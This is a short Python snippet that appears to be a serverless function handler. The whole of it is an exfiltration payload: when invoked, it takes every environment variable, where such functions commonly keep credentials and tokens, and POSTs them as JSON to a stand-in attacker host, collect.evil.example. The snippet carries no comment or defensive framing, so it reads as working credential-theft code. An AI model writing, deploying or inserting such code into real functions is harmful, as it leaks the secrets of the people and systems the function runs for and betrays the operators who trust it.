import os, json, http.client
def handler(event, context):
    conn = http.client.HTTPSConnection("collect.evil.example")
    conn.request("POST", "/x", json.dumps(dict(os.environ)))
    return conn.getresponse().status
